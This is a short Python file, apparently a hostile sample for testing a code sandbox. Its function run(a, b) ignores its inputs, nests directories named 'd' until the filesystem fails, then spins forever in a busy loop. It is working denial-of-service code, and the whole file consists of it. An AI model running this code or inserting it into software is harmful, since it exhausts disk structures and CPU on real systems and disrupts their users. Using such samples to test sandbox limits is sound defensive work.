import os


def run(a, b):
    try:
        while True:
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    while True:
        pass
